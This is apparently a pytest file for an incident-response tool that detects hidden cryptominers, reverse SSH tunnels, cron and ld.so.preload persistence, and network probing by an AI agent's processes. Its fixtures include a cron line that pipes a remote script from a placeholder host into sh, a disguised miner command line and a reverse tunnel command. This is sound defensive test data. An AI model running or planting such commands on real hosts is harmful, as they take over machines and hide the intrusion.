"""Heuristics over fixture records: expected findings, verdicts and lineage; corrupt records."""

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from minersample import synthetic_monero_wallet

from irkit.analysis.heuristics import analyse, process_verdicts
from irkit.analysis.signals import command_starts_miner
from irkit.playbook import AgentSpec, AnalysisSettings

WALLET = synthetic_monero_wallet()


def process(pid: int, name: str, **extra: Any) -> dict[str, Any]:
    return {
        "type": "process",
        "pid": pid,
        "ppid": 1,
        "name": name,
        "exe": f"/usr/bin/{name}",
        "cmdline": [name],
        "user": "root",
        "flags": [],
        "cpu_percent": 1.0,
        **extra,
    }


HOST = [
    process(1, "systemd", ppid=0),
    process(
        4242,
        "kworker/0:2",
        exe="/tmp/.x/kworkerds (deleted)",
        cpu_percent=99.0,
        cmdline=["/tmp/.x/kworkerds", "-o", "stratum+tcp://127.0.0.1:3333", "-u", WALLET],
        flags=[
            "exe-deleted",
            "exe-in-hidden-dir",
            "exe-in-writable-dir",
            "kernel-thread-imitation",
        ],
        exe_sha256="ab" * 32,
        exe_member="files/proc/4242/exe",
    ),
    process(300, "sshd"),
    process(301, "ssh", ppid=300, cmdline=["ssh", "-fNR", "2222:localhost:22", "u@203.0.113.5"]),
    process(500, "python3", user="agent", cgroup="/agent.slice/run-1.scope"),
    process(501, "bash", ppid=500, user="agent"),
    process(502, "scanner", ppid=501, user="agent"),
    process(600, "trainer", ppid=1),
    {
        "type": "socket",
        "proto": "tcp",
        "pid": 4242,
        "state": "ESTABLISHED",
        "local_address": "127.0.0.1",
        "local_port": 40000,
        "remote_address": "127.0.0.1",
        "remote_port": 3333,
        "flags": ["pool-port"],
    },
    *[
        {
            "type": "socket",
            "proto": "tcp",
            "pid": 502,
            "state": "SYN_SENT",
            "local_address": "10.0.0.2",
            "local_port": 50000 + i,
            "remote_address": f"10.0.1.{i}",
            "remote_port": 22,
            "flags": [],
        }
        for i in range(25)
    ],
    {"type": "gpu_process", "pid": 600, "gpu_index": 0, "used_memory": 8 << 30},
    {
        "type": "persistence",
        "mechanism": "cron",
        "source": "/etc/crontab",
        "line": 3,
        "command": "/tmp/.x/kworkerds >/dev/null 2>&1",
        "member": "files/etc/crontab",
    },
    {
        "type": "persistence",
        "mechanism": "cron",
        "source": "/var/spool/cron/crontabs/www",
        "line": 1,
        "command": "curl -fsSL http://198.51.100.9/x.sh | sh",
    },
    {
        "type": "persistence",
        "mechanism": "ld.so.preload",
        "source": "/etc/ld.so.preload",
        "line": 1,
        "command": "/usr/local/lib/libhide.so",
    },
    {
        "type": "persistence",
        "mechanism": "cron",
        "source": "/etc/cron.d/logrotate",
        "line": 1,
        "command": "test -x /usr/sbin/logrotate && /usr/sbin/logrotate /etc/logrotate.conf",
    },
]

SETTINGS = AnalysisSettings(
    agent=AgentSpec(process_names=["python3"], users=[], cgroups=[]), gpu_allow=["python3"]
)


@pytest.fixture(scope="module")
def result():
    return analyse(HOST, SETTINGS)


def by_pid(result, pid: int):
    return next(f for f in result.findings if f.pid == pid)


def test_the_miner_is_a_likely_miner_with_its_reasons(result) -> None:
    miner = by_pid(result, 4242)
    assert miner.title == "likely miner: pid 4242 (kworker/0:2)"
    assert miner.severity == "critical"
    text = " | ".join(miner.reasons)
    for expected in (
        "deleted",
        "hidden directory",
        "kernel thread",
        "127.0.0.1:3333",
        "stratum+tcp://127.0.0.1:3333",
        WALLET,
        "CPU use of 99%",
    ):
        assert expected in text
    assert {"T1496", "T1036.004", "T1070.004"} <= set(miner.mitre)
    assert "files/proc/4242/exe" in miner.evidence


def test_reverse_ssh_tunnel(result) -> None:
    tunnel = by_pid(result, 301)
    assert tunnel.title.startswith("tunnel")
    assert "T1572" in tunnel.mitre
    assert "to u@203.0.113.5:22, forwarding -R 2222:localhost:22" in " ".join(tunnel.reasons)
    endpoint = next(i for i in result.iocs if i.ioc_type == "tunnel-endpoint")
    assert endpoint.value == "u@203.0.113.5:22"
    assert endpoint.detail["direction"] == "reverse"
    assert endpoint.finding == tunnel.title


def test_probing_traced_to_the_agent(result) -> None:
    probe = by_pid(result, 502)
    assert "25 connection attempts" in " ".join(probe.reasons)
    assert "it descends from the agent's runtime (pid 500)" in probe.reasons
    verdict = next(v for v in result.verdicts if v.pid == 502)
    assert verdict.agent_ancestor == 500
    assert verdict.lineage[:3] == ["502 scanner (agent)", "501 bash (agent)", "500 python3 (agent)"]


def test_gpu_use_outside_the_allow_list(result) -> None:
    assert "8192 MiB of GPU memory" in " ".join(by_pid(result, 600).reasons)


def test_persistence_findings(result) -> None:
    titles = {f.title: f for f in result.findings if "persistence" in f.title}
    crontab = titles["cron persistence: /etc/crontab:3"]
    assert any("pid 4242" in r for r in crontab.reasons)
    assert "T1053.003" in crontab.mitre
    assert "downloads code" in " ".join(
        titles["cron persistence: /var/spool/cron/crontabs/www:1"].reasons
    )
    assert "T1574.006" in titles["ld.so.preload persistence: /etc/ld.so.preload:1"].mitre
    assert not any("logrotate" in t for t in titles)


def test_iocs_and_verdict(result) -> None:
    iocs = {(i.ioc_type, i.value) for i in result.iocs}
    assert ("pool-host", "127.0.0.1:3333") in iocs
    assert ("wallet", WALLET) in iocs
    file = next(i for i in result.iocs if i.ioc_type == "file")
    assert (file.value, file.detail["sha256"]) == ("/tmp/.x/kworkerds", "ab" * 32)
    assert file.finding == "likely miner: pid 4242 (kworker/0:2)"
    assert ("download-url", "http://198.51.100.9/x.sh") in iocs
    assert ("download-host", "198.51.100.9") in iocs
    assert not any(kind in ("path", "sha256") for kind, _ in iocs), "no path-only IOC"
    assert not any(kind == "c2" for kind, _ in iocs), "probes and loopback are no peers"
    verdict = result.verdict("medium")
    assert verdict.verdict == "COMPROMISED"
    assert "likely miner: pid 4242" in verdict.reason


def test_a_quiet_host_has_no_findings() -> None:
    quiet = analyse([process(1, "systemd", ppid=0), process(2, "sshd")], AnalysisSettings())
    assert quiet.findings == [] and quiet.iocs == []
    assert quiet.verdict("medium").verdict == "CLEAN"


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3)
    ),
    max_leaves=6,
)
fields = (
    "pid",
    "ppid",
    "name",
    "exe",
    "cmdline",
    "flags",
    "cpu_percent",
    "state",
    "remote_address",
    "remote_port",
    "command",
    "mechanism",
    "source",
    "used_memory",
    "iocs",
    "entry",
    "path",
)


@settings(max_examples=100, deadline=None)
@given(
    st.lists(
        st.fixed_dictionaries(
            {
                "type": st.sampled_from(
                    ["process", "socket", "persistence", "gpu_process", "started-config", "x"]
                )
            },
            optional={f: json_values for f in fields},
        ),
        max_size=6,
    )
)
def test_corrupt_records_never_crash_the_analysis(records: list[dict[str, Any]]) -> None:
    analysis = analyse(records, AnalysisSettings())
    assert process_verdicts(records, AnalysisSettings()) == analysis.verdicts


def test_the_verdicts_before_the_hunts_are_the_analysis_verdicts(result) -> None:
    """The triage flags processes with `process_verdicts`, which reads no persistence entry."""
    assert process_verdicts(HOST, SETTINGS) == result.verdicts
    assert any(v.verdict == "likely miner" for v in result.verdicts)


def test_a_hit_in_the_agents_workspace_names_the_agent() -> None:
    records = [
        process(1, "systemd", ppid=0),
        process(70, "python3", cmdline=["python3", "agent_runner.py"], cwd="/workspace/run"),
        {"type": "finding", "title": "YARA x on file", "severity": "high", "source": "yara",
         "path": "/workspace/run/out/xmrig"},
        {"type": "finding", "title": "YARA y on file", "severity": "high", "source": "yara",
         "path": "/workspace/other/xmrig"},
    ]  # fmt: skip
    analysis = analyse(records, SETTINGS)
    assert analysis.workspace == {
        "/workspace/run/out/xmrig": [
            "it lies in the working directory of the agent's runtime "
            "(pid 70: agent_runner.py in /workspace/run)"
        ]
    }


def test_nothing_below_the_threshold_gives_an_ioc() -> None:
    strict = AnalysisSettings(threshold="critical", agent=SETTINGS.agent)
    iocs = analyse(HOST, strict).iocs
    assert iocs and {i.finding for i in iocs} == {"likely miner: pid 4242 (kworker/0:2)"}


def test_an_ssh_login_to_port_2222_is_no_pool_connection() -> None:
    records = [
        process(1, "systemd", ppid=0),
        process(80, "ssh", cmdline=["ssh", "-p", "2222", "admin@198.51.100.30"]),
        {"type": "socket", "proto": "tcp", "pid": 80, "state": "ESTABLISHED",
         "remote_address": "198.51.100.30", "remote_port": 2222, "flags": ["pool-port"]},
    ]  # fmt: skip
    result = analyse(records, SETTINGS)
    assert result.findings == [] and result.iocs == []


def test_a_tunnel_without_a_destination_on_its_command_line_takes_its_connection() -> None:
    records = [
        process(1, "systemd", ppid=0),
        process(90, "ngrok", exe="/tmp/ngrok", cmdline=["/tmp/ngrok", "tcp", "22"]),
        {"type": "socket", "proto": "tcp", "pid": 90, "state": "ESTABLISHED",
         "remote_address": "198.51.100.40", "remote_port": 443, "flags": []},
    ]  # fmt: skip
    result = analyse(records, SETTINGS)
    tunnel = by_pid(result, 90)
    assert "connected to 198.51.100.40:443" in " ".join(tunnel.reasons)
    kinds = {(i.ioc_type, i.value, i.source) for i in result.iocs}
    assert ("tunnel-endpoint", "198.51.100.40:443", "socket") in kinds
    assert not any(kind in ("c2", "pool-host") for kind, _, _ in kinds)


def test_every_other_peer_of_a_flagged_process_is_a_c2_ioc() -> None:
    peer = {"type": "socket", "proto": "tcp", "pid": 4242, "state": "ESTABLISHED",
            "remote_address": "198.51.100.50", "remote_port": 443, "flags": []}  # fmt: skip
    quiet = {**peer, "pid": 300, "remote_address": "198.51.100.51"}  # sshd: not flagged
    result = analyse([*HOST, peer, quiet], SETTINGS)
    c2 = {(i.value, i.finding) for i in result.iocs if i.ioc_type == "c2"}
    assert c2 == {("198.51.100.50:443", "likely miner: pid 4242 (kworker/0:2)")}


def quiet_miner(config_pool: str, remote: str) -> list[dict[str, Any]]:
    """A process with no arguments, its config (as the triage records it) and one connection."""
    host, port = config_pool.rsplit(":", 1)
    iocs = [
        {"ioc_type": "pool-host", "value": config_pool, "validated": None,
         "detail": {"host": host, "port": int(port)}},
        {"ioc_type": "wallet", "value": WALLET, "validated": True,
         "detail": {"currency": "monero"}},
        {"ioc_type": "worker", "value": "rig9", "validated": None, "detail": {}},
    ]  # fmt: skip
    return [
        process(1, "systemd", ppid=0),
        process(500, "syshelper", exe="/opt/h/syshelper", cmdline=["/opt/h/syshelper"]),
        {"type": "socket", "proto": "tcp", "pid": 500, "state": "ESTABLISHED",
         "remote_address": remote, "remote_port": 443, "flags": []},
        {"type": "started-config", "pid": 500, "path": "/opt/h/config.json",
         "how": "beside its executable", "member": "files/proc/500/root/opt/h/config.json",
         "iocs": iocs},
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("config_pool", "remote", "verdict"),
    [
        ("203.0.113.9:443", "203.0.113.9", "likely miner"),  # the config's address
        ("pool.example.test:443", "203.0.113.9", "likely miner"),  # a name: by its port
        ("203.0.113.8:443", "203.0.113.9", None),  # another address: not its config
        ("pool.example.test:3333", "203.0.113.9", None),  # another port: not its config
    ],
)
def test_a_process_run_from_its_config_alone(
    config_pool: str, remote: str, verdict: str | None
) -> None:
    """A config found beside an executable that is not named like a miner counts only when
    the process is connected to its pool."""
    result = analyse(quiet_miner(config_pool, remote), SETTINGS)
    if verdict is None:
        assert result.findings == [] and result.iocs == []
        return
    finding = by_pid(result, 500)
    assert finding.title.startswith(verdict)
    assert any(WALLET in r and "/opt/h/config.json" in r for r in finding.reasons)
    iocs = {(i.ioc_type, i.value): i for i in result.iocs}
    assert iocs[("wallet", WALLET)].source == "config"
    assert iocs[("worker", "rig9")].finding == finding.title
    assert "files/proc/500/root/opt/h/config.json" in finding.evidence


def test_a_persistence_entry_names_its_miners_config() -> None:
    entry = {"type": "persistence", "mechanism": "systemd", "line": 4,
             "source": "/etc/systemd/system/u.service",
             "command": "/opt/xmrig/xmrig --config=/etc/xmrig/config.json"}  # fmt: skip
    config = {"type": "started-config", "pid": None, "entry": "/etc/systemd/system/u.service:4",
              "path": "/etc/xmrig/config.json", "member": "files/etc/xmrig/config.json",
              "iocs": [{"ioc_type": "wallet", "value": WALLET, "validated": True}]}  # fmt: skip
    result = analyse([entry, config], SETTINGS)
    (finding,) = result.findings
    assert any("/etc/xmrig/config.json" in r and WALLET in r for r in finding.reasons)
    assert "files/etc/xmrig/config.json" in finding.evidence
    assert [(i.ioc_type, i.source, i.finding) for i in result.iocs] == [
        ("wallet", "config", finding.title)
    ]


@pytest.mark.parametrize(
    ("command", "starts"),
    [
        ("./miner --algo kawpow --server rvn.pool.test --port 1", True),  # GMiner's binary
        ("/opt/gminer/miner", True),
        ("cd /opt/g && ./miner", True),
        ("echo miner", False),
        ("/usr/bin/miner-stats", False),
        ("apt-get install -y cryptominer-docs", False),
    ],
)
def test_gminers_plain_miner_binary_is_a_miner_only_as_a_program(
    command: str, starts: bool
) -> None:
    assert command_starts_miner(command) is starts


def test_a_miner_that_rewrote_its_command_line_is_named_by_its_program() -> None:
    records = [
        process(1, "systemd", ppid=0),
        process(600, "xmrig", exe="/tmp/.x/xmrig", cmdline=["[kswapd0]"]),
        process(601, "sshd", exe="/usr/sbin/sshd", cmdline=["sshd: root@pts/0"]),
    ]
    result = analyse(records, SETTINGS)
    assert [f.pid for f in result.findings] == [600]
    assert "its program is named like a miner (xmrig)" in result.findings[0].reasons[0]


def test_a_config_beside_a_shared_folder_counts_only_for_its_miner() -> None:
    """/usr/local/bin/config.json beside an installed xmrig: the other programs there neither
    are miners nor use it."""
    records = quiet_miner("pool.example.test:3333", "203.0.113.9")  # no connection to 3333
    config = records[-1]
    other = process(501, "node", exe="/opt/h/node", cmdline=["/opt/h/node", "app.js"])
    miner = process(502, "xmrig", exe="/opt/h/xmrig", cmdline=["/opt/h/xmrig"])
    records += [other, miner, {**config, "pid": 501}, {**config, "pid": 502}]
    result = analyse(records, SETTINGS)
    flagged = {f.pid for f in result.findings}
    assert 501 not in flagged and 500 not in flagged
    assert by_pid(result, 502).title.startswith("likely miner")  # by name, pool and wallet
    assert any("/opt/h/config.json" in r for r in by_pid(result, 502).reasons)
